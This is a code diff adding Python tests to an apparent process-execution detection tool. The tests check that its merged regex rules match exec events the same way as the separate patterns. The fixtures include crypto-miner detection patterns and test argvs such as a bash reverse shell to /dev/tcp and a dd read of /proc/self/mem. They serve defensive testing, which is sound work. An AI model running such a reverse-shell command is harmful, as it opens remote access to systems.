@@ -119,3 +119,76 @@ def test_cost_puts_the_ancestry_walk_after_the_argv_tests(tmp_path: Path) -> Non
     regex = ResolvedTest(FIELDS["params"], "regex", False, ("^/tmp/",))
     assert cost(name) < cost(walk) and cost(name) < cost(regex)
     assert cost(AllOf((name, regex))) < cost(walk)
+
+
+def test_joined_regexes_search_as_each_pattern_alone() -> None:
+    """one_regex(): one search for a list of patterns (issue 22), the same answer as any()."""
+    import re
+
+    from roxd.rules.compile import one_regex
+
+    patterns = [r"stratum\+(tcp|ssl|tls)://", "--donate-level", "(?i)cryptonight",
+                r"--algo[= ](rx|cn|randomx)", r"(?i)\.(jpe?g|png)$", r"^\S+\s+(ash|sh)(\s|$)",
+                r"\s$", r"(?m)^x$"]
+    joined = one_regex(patterns)
+    assert joined is not None
+    texts = ["xmrig -o stratum+tcp://pool:1", "CryptoNight", "--algo=rx/0", "a.JPG", "a.jpg.sh",
+             "busybox sh -c x", "busybox ash", "trailing ", "a\nx\nb", "X", "--donate-level 1",
+             "", "plain text", "--ALGO=rx", "STRATUM+TCP://"]
+    for text in texts:
+        assert bool(joined.search(text)) == any(re.search(p, text) for p in patterns), text
+    # group references would be renumbered in a joined pattern: kept apart
+    assert one_regex([r"(a)\1", "b"]) is None
+    assert one_regex([r"(?P<x>a)(?P=x)", "b"]) is None
+    assert one_regex(["(?x) a b", "c"]) is None
+
+
+def _plain_field_predicate(test):  # type: ignore[no-untyped-def]
+    """The field test as written before issue 22's specialised closures: the reference."""
+    from roxd.rules import compile as compile_mod
+
+    read, check = test.spec.read, compile_mod._value_test(test)
+    if test.spec.many:
+        def positive(v):  # type: ignore[no-untyped-def]
+            return any(check(x) for x in read(v))
+    else:
+        def positive(v):  # type: ignore[no-untyped-def]
+            value = read(v)
+            return value is not None and bool(check(value))
+    return (lambda v: not positive(v)) if test.negated else positive
+
+
+def test_the_pack_matches_the_same_with_regexes_kept_apart(monkeypatch: pytest.MonkeyPatch
+                                                           ) -> None:
+    """Every shipped rule compiled as roxd does (regex tests joined into one search, field
+    tests as specialised closures) and plainly (one search per pattern, the generic field
+    test) gives the same answers on a spread of execs."""
+    from roxd.rules import compile as compile_mod
+
+    rules_dir = Path(__file__).resolve().parents[2] / "rules"
+    joined = ActiveRules([rules_dir]).load()
+    monkeypatch.setattr(compile_mod, "merged_regex_tests", lambda parts: parts)
+    monkeypatch.setattr(compile_mod, "one_regex", lambda patterns: None)
+    monkeypatch.setattr(compile_mod, "_field_predicate", _plain_field_predicate)
+    apart = ActiveRules([rules_dir]).load()
+    web = Container("c" * 64, "docker", "web", "nginx:1.25")
+    exes = ("/bin/sh", "/bin/busybox", "/usr/bin/python3", "/tmp/x", "/usr/bin/xmrig",
+            "/home/u/invoice.pdf", "/x/report.JPG.sh", "/usr/bin/dd", "/usr/bin/nc ")
+    argvs = ((), ("sh", "-c", "id"), ("-o", "stratum+tcp://pool:3333"), ("--donate-level=1",),
+             ("if=/proc/self/mem",), ("/tmp/run.sh",), ("holiday.png",), ("--algo", "rx/0"),
+             ("-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), ("ash",))
+    seen = 0
+    for exe, args, where in itertools.product(exes, argvs, (None, web)):
+        argv = (exe, *args)
+        ev = ExecEvent(time_ns=1, pid=20, ppid=10, uid=0, gid=0, cgroup_id=5, comm="x",
+                       filename=exe, args=argv, args_truncated=False)
+        chain = (Ancestor(10, "/usr/bin/make", ("make",)),) if len(args) % 2 else ()
+        proc = Process(pid=20, ppid=10, uid=0, exe=exe, comm="x", args=argv, cgroup_id=5,
+                       vpid=7 if args else 1, session="exec" if where else None,
+                       ancestors=chain)
+        enriched = EnrichedEvent(ev, where, proc, None, "new" if "tmp" in exe else "none",
+                                 "new" if "/tmp/" in " ".join(args) else None)
+        a = [m.rule.id for m in joined.match(enriched)]
+        assert a == [m.rule.id for m in apart.match(enriched)], argv
+        seen += bool(a)
+    assert seen > 20
